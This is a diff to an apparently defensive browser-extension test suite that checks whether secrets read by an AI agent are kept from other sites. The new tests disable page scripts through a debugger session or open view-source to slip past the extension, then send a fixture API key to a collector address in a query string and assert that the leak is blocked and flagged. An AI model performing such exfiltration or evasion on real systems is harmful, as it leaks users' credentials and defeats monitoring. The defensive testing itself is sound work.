@@ -18,6 +18,7 @@ const [NEW, NEWER] = ['new.example', 'newer.example'];
 const KEY = 'dk-live-7QmXv9KpLtRsWzNdHaYc';
 const REVEALED = 'kX9#vQ2mTz!';
 const BODIES = {
+  '/': '<noscript><b>No scripts</b></noscript>',
   '/key': `<label>Your key <input readonly value="${KEY}"></label>`,
   '/revealed': `<label>Password <input type="text" name="password" value="${REVEALED}"></label>`,
 };
@@ -35,7 +36,7 @@ async function leave(tab, sites, what) {
 }
 
 describe('after a private read', () => {
-  const shared = sharedBrowser(playwrightHands, { extension, extra: { [DESK]: signedIn }, args });
+  const shared = sharedBrowser(playwrightHands, { extension, extra: { [DESK]: signedIn }, args, forgets: true });
   let scene;
   before(async () => {
     scene = await shared.scene();
@@ -145,7 +146,44 @@ describe('after a private read', () => {
     await hands.wait(1_000);
     assert.ok(!reached(NEWER));
   });
+
+  for (const [how, opens] of [
+    ['whose scripts a debugger switched off', withoutScripts],
+    ['that is shown as its source', ({ page }) => page.goto(`view-source:http://${DESK}/key`)],
+  ])
+    test(`what is read on a page ${how} goes to no other site unasked, and within its own it does`, {
+      timeout: 60_000,
+    }, async () => {
+      scene = await shared.scene();
+      const { hands } = scene;
+      // The first page in which an agent is seen: nothing was read before.
+      await hands.goto(urlOf('forum'));
+      await opens(hands);
+      await hands.wait(1_500);
+      await hands.goto(`${COLLECT}?d=${KEY}`).catch(() => undefined);
+      await hands.goto(`http://${DESK}/?d=${KEY}`);
+      assert.deepEqual(arrived({ KEY }), []);
+      const { questions, incidents } = await (await openPopup(hands)).state();
+      // Where our script got in all the same, it knows the key itself.
+      const rules = [...questions, ...incidents].map(({ rule, dest }) => [rule ?? 'exfiltration-by-address', dest]);
+      assert.equal(rules.length, 1, JSON.stringify(rules));
+      assert.equal(rules[0][1], new URL(COLLECT).hostname);
+    });
 });
+
+async function withoutScripts({ context, page }) {
+  const debug = await context.newCDPSession(page);
+  await debug.send('Emulation.setScriptExecutionDisabled', { value: true });
+  // A process that is new for it may still begin with scripts.
+  const isOff = () => page.locator('noscript b').count();
+  do await page.goto(`http://${DESK}/`);
+  while (!(await isOff()));
+  await page.goto(`http://${DESK}/key`);
+  await page.waitForTimeout(1_000);
+  // Where they are switched on again there, our script comes late, and reads it.
+  await page.goto('about:blank');
+  await debug.send('Emulation.setScriptExecutionDisabled', { value: false });
+}
 
 for (const [what, shows] of [
   ['an empty tab', 'about:blank'],
